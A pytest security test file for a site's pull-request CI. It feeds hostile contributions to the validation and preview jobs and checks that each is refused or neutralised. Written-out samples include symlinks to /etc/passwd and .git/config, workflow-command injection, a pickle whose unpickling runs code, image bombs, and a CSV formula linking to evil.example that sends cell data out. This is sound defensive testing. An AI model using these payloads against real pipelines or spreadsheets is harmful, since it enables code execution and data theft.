"""Hostile pull requests, each committed to a scratch copy of this repository as a contributor would, then run
through the jobs of the pull-request workflow exactly as CI runs them (tests/support/pr_steps.py): `scope`
(only content/ may change), `content` (the base's code validates the pull request's content/) and `preview`
(the base's code builds it). One test per attack class of the security issue: each is refused with a located
message, or made inert; no file from outside the repository, no code from the pull request, no live formula
and no raw control character reaches the site, the report or a generated file.

The attacks that validation refuses share one pull request (one run of the `content` job, as a contributor
sending them all at once would get); those that must build share another.
"""

from __future__ import annotations

import csv
import gzip
import io
import pickle
import re
from pathlib import Path

import pytest
from tests.content_model import hostile
from tests.support.pr_steps import Actions

ORG = "---\nname: \"{name}\"\nmembership:\n  status: member\n{extra}---\n\n{body}\n"
NESTED = "---\nname: \"Profonde\"\nmembership:\n  status: member\ncity: " + "[" * 1_000 + "]" * 1_000 + "\n---\n"

#: attack class -> (files of the pull request, the start of the line of the content job's report that says why,
#: in French: the contributor's language, and CI's default)
REFUSED = {
    "symlink to a file of the machine": (
        {"content/documents/tdr.pdf": "symlink:/etc/passwd"},
        'content/documents/tdr.pdf:1: est un lien symbolique (vers "/etc/passwd") ; les liens sont refusés partout'),
    "symlink into the repository's own .git": (
        {"content/documents/config.pdf": "symlink:../../.git/config"},
        'content/documents/config.pdf:1: est un lien symbolique (vers "../../.git/config")'),
    "PostScript named logo.png (Ghostscript)": (
        {"content/images/logos/piege.png": hostile.EPS,
         "content/organisations/piege-gs.md": ORG.format(name="Piège GS", extra="logo: images/logos/piege.png\n",
                                                         body="x")},
        'content/images/logos/piege.png:1: le nom se termine par ".png" (type image PNG) mais le contenu est du '
        "PostScript"),
    "PNG with valid checksums and corrupt data": (
        {"content/images/site/carte.png": hostile.corrupt_png()},
        "content/images/site/carte.png:1: l’image ne peut pas être décodée"),
    "mailto with headers": (
        {"content/organisations/piege-mail.md": ORG.format(name="Piège mail",
                                                          extra='email: "contact%40x.org?bcc=evil@y.org"\n',
                                                          body="x")},
        'content/organisations/piege-mail.md:5: email: "contact%40x.org?bcc=evil@y.org" n’est pas une adresse '
        "e-mail"),
    "right-to-left override in a name": (
        {"content/organisations/piege-bidi.md": ORG.format(name="Coop\u202eevil", extra="", body="x")},
        "content/organisations/piege-bidi.md:2: name: contient U+202E RIGHT-TO-LEFT OVERRIDE en position 5"),
    "zero-width space in an acronym": (
        {"content/organisations/piege-zw.md": ORG.format(name="Piège ZW", extra='acronym: "CO\u200bOP"\n',
                                                        body="x")},
        "content/organisations/piege-zw.md:5: acronym: contient U+200B ZERO WIDTH SPACE en position 3"),
    "a workflow command in a value": (
        {"content/organisations/piege-ci.md": ORG.format(name="Piège CI",
                                                        extra='city: "Ségou\\n::warning file=tasks.py::pwned"\n',
                                                        body="x")},
        "content/organisations/piege-ci.md:5: city: doit tenir sur une ligne"),
    "a newline in a file name": (
        {"content/documents/a\n::warning::pwned.pdf": hostile.PDF},
        "content/documents/a\\n::warning::pwned.pdf:1: le nom contient U+000A LINE FEED en position 2"),
    "YAML nested 1,000 deep": (
        {"content/organisations/profonde.md": NESTED},
        "content/organisations/profonde.md:5: les listes et les groupes sont imbriqués sur plus de 20 niveaux ici"),
    "a 50 MB Markdown body": (
        {"content/pages/enorme.md": "---\ntitle: \"Énorme\"\n---\n\n" + "Du texte. " * 5_000_000},
        "content/pages/enorme.md:1: le fichier pèse 47,7 Mo, plus que les 512 Ko permis pour un fichier Markdown"),
    "a 12,000 x 12,000 logo": (
        {"content/images/logos/geant.png": hostile.bomb_png(12_000, 12_000)},
        "content/images/logos/geant.png:1: l’image mesure 12000 × 12000 pixels (144 millions), plus que les 25 "
        "millions permis"),
    "an HTML file (scripts)": (
        {"content/extra/page.html": hostile.HTML.decode()},
        'content/extra/page.html:1: les fichiers ".html" sont refusés'),
}


class _Payload:
    """Unpickling this writes a marker: proof that a pickle from the pull request ran in the build."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


@pytest.fixture(scope="module")
def actions(tmp_path_factory) -> Actions:
    return Actions(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def refused(actions: Actions) -> tuple[int, str, str, str]:
    """One pull request with every attack that validation must refuse; the content job run on it."""
    files: dict = {}
    for pr_files, _line in REFUSED.values():
        files.update(pr_files)
    head = actions.pull_request(files)
    code, out, summary = actions.run_job("pr.yml", "content", head)
    return code, out, summary, head


@pytest.mark.parametrize("attack", sorted(REFUSED))
def test_each_attack_is_refused_with_a_located_line(refused, attack: str) -> None:
    code, out, summary, _head = refused
    assert code == 1
    expected = REFUSED[attack][1]
    assert any(line.startswith(expected) for line in out.splitlines()), f"{attack}: no line starts with {expected!r}"


def test_the_report_is_in_french_in_the_job_summary_and_never_a_traceback(refused) -> None:
    code, out, summary, _head = refused
    assert "Traceback" not in out
    assert summary.startswith("### Vérification du contenu :")
    assert "| Fichier | Ligne | Champ | Problème et correction |" in summary
    assert "n’est pas une adresse e-mail" in summary


def test_no_value_or_file_name_starts_a_workflow_command(refused) -> None:
    code, out, summary, _head = refused
    commands = [line for line in out.splitlines() if line.startswith("::")]
    assert commands and all(line.startswith("::error file=content/") for line in commands), commands
    assert not any("::warning" in line.split("::", 2)[1] for line in commands)
    assert "\x1b" not in out and "\r" not in out
    assert not re.search(r"^::warning", summary, re.M)


def test_a_refused_pull_request_builds_no_preview(actions: Actions, refused) -> None:
    # The preview job needs the content job; run it anyway, as a maintainer re-running it would: the build
    # validates first and writes nothing.
    code, out, _summary = actions.run_job("pr.yml", "preview", refused[3])
    assert code == 1
    assert not (actions.tmp / "ci-preview" / "preview" / "site").exists()


# -- what builds: made inert ---------------------------------------------------------------------------------

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")"


@pytest.fixture(scope="module")
def built(actions: Actions) -> tuple[Path, Path]:
    """A pull request whose content is valid but hostile for the consumers of the site, plus code and a crafted
    pickle outside content/; the preview job run on it (base code, the pull request's content/ only)."""
    marker = actions.tmp / "PWNED"
    payload = pickle.dumps(_Payload(str(marker)))
    files = {
        "content/organisations/formule.md": ORG.format(name=FORMULA.replace('"', '\\"'),
                                                        extra='acronym: "+SUM(1)"\ncity: "@cmd"\n', body="x"),
        ".cache/pelican/EntitiesGenerator-Readers": gzip.compress(payload),
        ".cache/pelican/ArticlesGenerator-Readers": payload,
        "plugins/labo_site/__init__.py": f"open({str(marker)!r}, 'w')\n",
    }
    head = actions.pull_request(files)
    code, out, _summary = actions.run_job("pr.yml", "preview", head)
    assert code == 0, out
    return actions.tmp / "ci-preview" / "preview" / "site", marker


def test_code_and_caches_outside_content_never_run(actions: Actions, built) -> None:
    site, marker = built
    assert (site / "index.html").is_file()
    assert not marker.exists(), "code or a pickle from the pull request ran during the build"
    head = actions.pull_request({".cache/pelican/x": b"x", "content/organisations/ok.md": ORG.format(
        name="OK", extra="", body="x")})
    code, out, summary = actions.run_job("pr.yml", "scope", head)
    assert code == 1 and "`.cache/pelican/x`" in summary


def test_csv_cells_are_neutralised_for_spreadsheets(built) -> None:
    site, _marker = built
    rows = list(csv.reader(io.StringIO((site / "data" / "organisations.csv").read_text(encoding="utf-8"))))
    header, cells = rows[0], [row for row in rows[1:] if row[0] == "formule"][0]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert cells[header.index("Name")] == "'" + FORMULA


def test_no_raw_control_character_reaches_a_generated_file(built) -> None:
    site, _marker = built
    for path in site.rglob("*"):
        if path.suffix in (".html", ".json", ".csv", ".ics", ".js", ".xml", ".txt"):
            text = path.read_text(encoding="utf-8")
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text), path
